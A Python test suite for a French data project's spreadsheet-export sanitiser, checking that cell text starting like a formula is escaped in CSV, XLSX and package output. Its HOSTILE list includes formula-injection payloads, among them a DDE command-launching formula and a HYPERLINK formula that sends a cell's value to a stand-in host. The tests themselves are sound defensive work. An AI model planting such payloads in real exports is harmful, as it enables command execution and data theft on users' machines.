"""What leaves for a spreadsheet runs nothing, and stays what it was."""

from __future__ import annotations

import csv
import io
import math
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from components.downloads import encode_csv
from data.package import build_package
from data.store import SNAPSHOTS_DIR, list_editions
from data.tableur import defuse_text

DAY = list_editions(SNAPSHOTS_DIR)[-1]

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://exemple.fr?x="&A1;"Cliquer")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "-",
    "- une puce",
    "+33 3 20 00 00 00 x",
]
PLAIN = [
    "",
    "Lille",
    "a=b",
    "1+1",
    "-12",
    "-12,5",
    "+3",
    "-1 720,5 %",
    "12 %",
    "%",
    "’=1",
    "'=1",
    "1=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_plain_text(text: str) -> None:
    assert str(defuse_text(text)).startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_written_numbers_stay(text: str) -> None:
    assert defuse_text(text) == text


def test_what_is_not_text_stays() -> None:
    for value in (-12, -12.5, None, True):
        assert defuse_text(value) is value
    kept = defuse_text(math.nan)
    assert isinstance(kept, float)
    assert math.isnan(kept)


def test_what_a_workbook_cannot_hold_is_dropped() -> None:
    assert defuse_text("a\x00b\x1fc\ud800d\ufffe") == "abcd"
    assert defuse_text("deux\nlignes") == "deux\nlignes"


@given(st.text())
def test_no_text_is_left_to_run(text: str) -> None:
    made = str(defuse_text(text))
    assert made[:1] not in ("=", "@", "\t", "\r", "\n")
    if made[:1] in ("+", "-"):
        assert not set(made[1:]) - set("0123456789., %\u00a0\u202f")
    assert defuse_text(made) == made


def test_a_workbook_holds_no_formula() -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for text in HOSTILE + PLAIN:
        sheet.append([defuse_text(text)])
    sink = io.BytesIO()
    book.save(sink)
    read = openpyxl.load_workbook(io.BytesIO(sink.getvalue())).worksheets[0]
    assert "f" not in {cell.data_type for (cell,) in read.iter_rows()}


def test_the_csv_defuses_cells_and_headings_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"=titre": ["=1+1;2", "Lille"], "valeur": [-12.5, 3.0]})
    lines = encode_csv(frame).decode("utf-8-sig").split("\r\n")
    assert lines[0] == "'=titre;valeur"
    assert lines[1] == '"\'=1+1;2";-12,5'
    assert lines[2] == "Lille;3,0"


def test_the_package_keeps_exact_texts_and_none_of_them_runs() -> None:
    """Programs read the package: its text is not touched, so it must be harmless as it stands."""
    with zipfile.ZipFile(io.BytesIO(build_package(SNAPSHOTS_DIR, DAY))) as archive:
        tables = [name for name in archive.namelist() if name.endswith(".csv")]
        cells = [
            cell
            for name in tables
            for row in csv.reader(io.TextIOWrapper(archive.open(name), "utf-8", newline=""))
            for cell in row
        ]
    assert len(cells) > 10_000
    assert [cell for cell in cells if defuse_text(cell) != cell] == []
